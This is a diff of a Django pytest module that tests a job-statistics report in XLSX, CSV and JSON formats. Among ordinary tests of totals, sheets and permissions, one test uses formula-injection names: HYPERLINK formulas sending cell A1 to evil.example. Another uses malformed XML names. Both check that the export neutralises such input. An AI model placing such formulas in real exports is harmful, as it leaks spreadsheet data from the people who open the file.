@@ -1,41 +1,239 @@
-"""The report: its numbers are those of the jobs in the period."""
+"""The report: its numbers are those of the database, in every format."""
 
-from datetime import timedelta
-from io import BytesIO
+import json
+import statistics
+from datetime import UTC, datetime, timedelta
 
 import pytest
-from django.core.files.storage import storages
+from django.contrib.auth.models import User
+from django.db import connection
 from django.utils import timezone
-from openpyxl import load_workbook
 
-from jobs import parameters, registry
 from jobs.engine.tasks import execute
 from jobs.models import Job, Status
-from tests.factories import make_job
+from tests.factories import make_job, make_user
+from tests.types.reports import csv_rows, figures, launched, run_report, sheet_rows, workbook
 
 pytestmark = pytest.mark.django_db(transaction=True, databases=["default", "lifecycle"])
 
+NOON = datetime(2026, 3, 10, 12, tzinfo=UTC)
+# Without the report's own row, which is of another month.
+MARCH = {"since": "2026-03-01T00:00:00Z", "until": "2026-04-01T00:00:00Z"}
 
-def run_report(**params):
-    job_type = registry.get("report")
-    job = make_job(status=Status.PROCESSING, type="report", params=parameters.validate(job_type, params))
-    outcome = execute(job)
-    assert outcome.status == Status.COMPLETED, outcome
-    return outcome.result, job.files.get()
+
+def job_that_ran(seconds, *, wait=1, day=0, status=Status.COMPLETED, **fields):
+    """A job of March that waited and ran for so many seconds."""
+    created = NOON + timedelta(days=day)
+    started = created + timedelta(seconds=wait)
+    times = {
+        "created_at": created,
+        "started_at": started,
+        "finished_at": started + timedelta(seconds=seconds),
+    }
+    job = make_job(status=status, **fields)
+    Job.objects.filter(id=job.id).update(**times)
+    return job
+
+
+@pytest.fixture
+def jobs_of_march():
+    for seconds in range(1, 21):
+        job_that_ran(seconds, wait=seconds / 10, day=seconds % 3)
+    job_that_ran(300, type="export", name="The slow one")
+    for _ in range(3):
+        job_that_ran(5, day=5, status=Status.FAILED, error_type="KeyError", error_message="no such key")
+    job_that_ran(7, status=Status.FAILED, error_code="worker_lost", error_type="")
+    waiting = make_job(status=Status.CANCELLED)
+    Job.objects.filter(id=waiting.id).update(created_at=NOON, finished_at=NOON)
+
+
+def one_value(sql):
+    with connection.cursor() as cursor:
+        cursor.execute(sql)
+        return cursor.fetchone()[0]
 
 
 def test_a_report_without_params_counts_the_jobs_of_the_last_week():
     make_job(status=Status.COMPLETED)
     Job.objects.filter(id=make_job().id).update(created_at=timezone.now() - timedelta(days=8))
-    result, file = run_report()
-    assert result == {"jobs": 2, "by_status": {"COMPLETED": 1, "PROCESSING": 1}}
-    with storages["jobs"].open(file.stored_name) as content:
-        sheet = load_workbook(BytesIO(content.read()))["By status"]
-    assert dict(sheet.values) == result["by_status"]
+    outcome, files = run_report()
+    assert outcome.status == Status.COMPLETED, outcome.error_traceback
+    assert outcome.result["by_status"] == {"COMPLETED": 1, "PROCESSING": 1}
+    assert [name.rpartition(".")[2] for name in files] == ["xlsx"]
 
 
-def test_a_period_that_ends_before_it_begins_is_refused():
-    with pytest.raises(parameters.InvalidParams, match="until: The period must end after it begins"):
-        parameters.validate(
-            registry.get("report"), {"since": "2026-01-02T00:00:00Z", "until": "2026-01-01T00:00:00Z"}
+def test_the_result_is_the_totals(jobs_of_march):
+    outcome, _ = run_report(**MARCH)
+    waits = sorted([*(s / 10 for s in range(1, 21)), 1, 1, 1, 1, 1])
+    runs = sorted([*range(1, 21), 300, 5, 5, 5, 7])
+    assert outcome.result == {
+        "jobs": 26,
+        "success_percent": round(100 * 21 / 25, 1),
+        "p50_wait_seconds": pytest.approx(statistics.median(waits)),
+        "p95_wait_seconds": pytest.approx(percentile_95(waits), abs=0.001),
+        "p50_run_seconds": statistics.median(runs),
+        "p95_run_seconds": pytest.approx(percentile_95(runs), abs=0.001),
+        "by_status": {"COMPLETED": 21, "FAILED": 4, "CANCELLED": 1},
+    }
+
+
+def percentile_95(values):
+    return statistics.quantiles(values, n=20, method="inclusive")[-1]
+
+
+def test_the_workbook_opens_and_its_numbers_are_those_of_sql(jobs_of_march):
+    _, files = run_report(**MARCH)
+    by_type = {row["Type"]: row for row in sheet_rows(files, "By type")}
+    march = "FROM jobs_job WHERE created_at >= '2026-03-01' AND created_at < '2026-04-01'"
+    assert by_type.keys() == {"report", "export"}
+    for type, row in by_type.items():
+        of_type = f"{march} AND type = '{type}'"
+        assert row["Jobs"] == one_value(f"SELECT count(*) {of_type}")
+        assert row["Failed"] == one_value(f"SELECT count(*) {of_type} AND status = 'FAILED'")
+        assert row["Median run (s)"] == one_value(
+            "SELECT extract(epoch FROM percentile_cont(0.5) WITHIN GROUP (ORDER BY finished_at - started_at))"
+            f"::float8 {of_type}"
         )
+
+
+def test_every_day_from_the_first_to_the_last_has_a_row(jobs_of_march):
+    _, files = run_report(**MARCH)
+    rows = sheet_rows(files, "By day")
+    assert [row["Day"].day for row in rows] == [10, 11, 12, 13, 14, 15]
+    assert [row["Jobs"] for row in rows] == [9, 7, 7, 0, 0, 3]
+    assert rows[3]["Success share"] is None
+
+
+def test_a_day_begins_at_the_sites_midnight(settings):
+    settings.TIME_ZONE = "Pacific/Auckland"  # 13 hours ahead in March
+    job_that_ran(1)
+    _, files = run_report(**MARCH)
+    assert sheet_rows(files, "By day")[0]["Day"] == datetime(2026, 3, 11)
+    assert sheet_rows(files, "Slowest jobs")[0]["Created"] == datetime(2026, 3, 11, 1)
+
+
+def test_the_slowest_job_comes_first(jobs_of_march):
+    _, files = run_report(**MARCH)
+    rows = sheet_rows(files, "Slowest jobs")
+    assert (rows[0]["Name"], rows[0]["Run (s)"]) == ("The slow one", 300)
+    assert len(rows) == 20
+
+
+def test_failures_are_counted_by_error_with_the_last_message(jobs_of_march):
+    _, files = run_report(**MARCH)
+    first, second = sheet_rows(files, "Failures by error")
+    assert (first["Error type"], first["Jobs"], first["Its message"]) == ("KeyError", 3, "no such key")
+    assert (second["Error code"], second["Jobs"]) == ("worker_lost", 1)
+
+
+def test_the_workbook_shows_the_days_as_a_native_chart(jobs_of_march):
+    _, files = run_report(**MARCH)
+    [chart] = workbook(files)["Summary"]._charts
+    assert [series.tx.v for series in chart.series] == [status.label for status in Status]
+    assert chart.series[2].val.numRef.f == "'By day'!$E$2:$E$7"
+
+
+def test_csv_and_json_agree(jobs_of_march):
+    _, tables = run_report(**MARCH, format="csv", list_jobs=True)
+    _, files = run_report(**MARCH, format="json", list_jobs=True)
+    told = figures(files)
+    for section in ("by_status", "by_type", "by_day", "slowest", "failures"):
+        as_text = [
+            {name: "" if value is None else str(value) for name, value in row.items()}
+            for row in told[section]
+        ]
+        assert csv_rows(tables, section) == as_text
+    assert {name: str(value) for name, value in told["totals"].items()} == csv_rows(tables, "totals")[0]
+    listed = [
+        json.loads(line) for line in next(b for n, b in files.items() if n.endswith("jsonl")).splitlines()
+    ]
+    assert [row["id"] for row in csv_rows(tables, "jobs")] == [row["id"] for row in listed]
+
+
+def test_a_chosen_type_leaves_the_others_out(jobs_of_march):
+    outcome, _ = run_report(**MARCH, types=["report"])
+    assert outcome.result["jobs"] == 25
+
+
+def test_an_empty_period_gives_a_report_of_nothing():
+    outcome, files = run_report(since="2001-01-01T00:00:00Z", until="2001-01-02T00:00:00Z", list_jobs=True)
+    assert outcome.result["jobs"] == 0
+    assert outcome.result["success_percent"] is None
+    assert workbook(files)["Jobs"].max_row == 1
+
+
+def test_the_jobs_sheet_lists_every_job_by_age(jobs_of_march):
+    _, files = run_report(**MARCH, list_jobs=True)
+    rows = sheet_rows(files, "Jobs")
+    assert [row["Id"] for row in rows] == [
+        str(id)
+        for id in Job.objects.filter(created_at__lt=NOON + timedelta(days=9))
+        .values_list("id", flat=True)
+        .order_by("id")
+    ]
+    assert rows[0]["Wait (s)"] == 0.1
+    assert rows[0]["Created"] == datetime(2026, 3, 11, 12)
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n"])
+def test_a_name_that_begins_like_a_formula_is_text_in_csv_and_xlsx(start):
+    name = f'{start}HYPERLINK("http://evil.example/?"&A1, "click")'
+    job_that_ran(1, name=name, status=Status.FAILED, error_message=name)
+    _, files = run_report(**MARCH, list_jobs=True)
+    for sheet in workbook(files):
+        assert not [cell for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
+    assert sheet_rows(files, "Jobs")[0]["Name"].startswith("'")
+    _, tables = run_report(**MARCH, format="csv", list_jobs=True)
+    assert csv_rows(tables, "jobs")[0]["name"] == f"'{name}"
+    assert csv_rows(tables, "failures")[0]["last_message"] == f"'{name}"
+
+
+@pytest.mark.parametrize("name", ["<r><t>x</r>", "]]>&<a>", "_x0041_", "\x1b[31m\x07", "\ufffe\uffff"])
+def test_a_name_made_of_xml_leaves_the_workbook_whole(name):
+    job_that_ran(1, name=name)
+    _, files = run_report(**MARCH, list_jobs=True)
+    assert len(sheet_rows(files, "Jobs")) == 1
+
+
+def test_a_report_of_one_who_may_not_see_all_jobs_covers_their_own():
+    alice = make_user("jobs.add_job")
+    job_that_ran(1, created_by=alice)
+    job_that_ran(1)
+    outcome, _ = run_report(**MARCH, created_by=alice, source="api")
+    assert outcome.result["jobs"] == 1
+
+
+def test_a_report_of_one_who_may_see_all_jobs_covers_all():
+    job_that_ran(1)
+    outcome, _ = run_report(**MARCH, created_by=make_user("jobs.view_job"), source="api")
+    assert outcome.result["jobs"] == 1
+
+
+def test_a_report_whose_launcher_was_deleted_meanwhile_shows_nothing():
+    alice = make_user()
+    job = launched(created_by=alice, source="api")
+    User.objects.all().delete()
+    outcome = execute(job)
+    assert (outcome.status, outcome.error_message) == (
+        Status.FAILED,
+        "The account that launched the report is gone.",
+    )
+
+
+def test_progress_tells_the_section_and_the_row(monkeypatch):
+    told = []
+    monkeypatch.setattr(
+        "jobs.context.journal.progress", lambda *a, percent, message, **k: told.append((percent, message))
+    )
+    monkeypatch.setattr("jobs.context.PROGRESS_EVERY_SECONDS", 0)
+    run_report(**MARCH, list_jobs=True)
+    assert [message for _, message in told] == [
+        "Totals",
+        "By status",
+        "By type",
+        "By day",
+        "Slowest jobs",
+        "Failures by error",
+        "Packing the file",
+        "The report is written.",
+    ]
